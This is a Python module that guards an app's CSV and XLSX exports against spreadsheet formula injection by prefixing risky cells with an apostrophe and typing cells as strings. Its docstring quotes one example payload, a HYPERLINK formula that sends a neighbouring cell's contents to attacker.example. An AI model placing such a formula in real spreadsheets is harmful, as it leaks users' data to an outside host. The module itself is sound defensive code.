"""Spreadsheet-safe exports: every CSV and XLSX the app writes goes through here.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel, LibreOffice
and Google Sheets (`=HYPERLINK("https://attacker.example/?"&A2, "portfolio")` sends a neighbouring cell away when
clicked). Such text is prefixed with an apostrophe, which spreadsheets show as text, and XLSX cells are written with
the string type so no value is ever stored as a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

# The ASCII triggers OWASP lists, plus their full-width forms (some spreadsheet locales fold them to ASCII).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """A cell value that no spreadsheet evaluates: text that could start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _cells(row: Iterable[Any]) -> list[Any]:
    return [safe_cell("" if v is None else v) for v in row]


def csv_text(columns: Sequence[str], rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> str:
    """CSV with a header row; rows are sequences in column order or mappings by column name."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(_cells(columns))
    for row in rows:
        values = [row.get(c) for c in columns] if isinstance(row, Mapping) else row
        writer.writerow(_cells(values))
    return out.getvalue()


def xlsx_bytes(
    columns: Sequence[str], rows: Iterable[Sequence[Any] | Mapping[str, Any]], *, sheet: str = "export"
) -> bytes:
    """An XLSX workbook with a header row; text cells are typed as strings (never formulas)."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    ws = book.create_sheet(sheet)
    ws.append([_text_cell(ws, c) for c in _cells(columns)])
    for row in rows:
        values = [row.get(c) for c in columns] if isinstance(row, Mapping) else row
        ws.append([_text_cell(ws, v) for v in _cells(values)])
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _text_cell(ws: Any, value: Any) -> Any:
    from openpyxl.cell import WriteOnlyCell

    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"  # openpyxl would store a string starting with "=" as a formula
    return cell
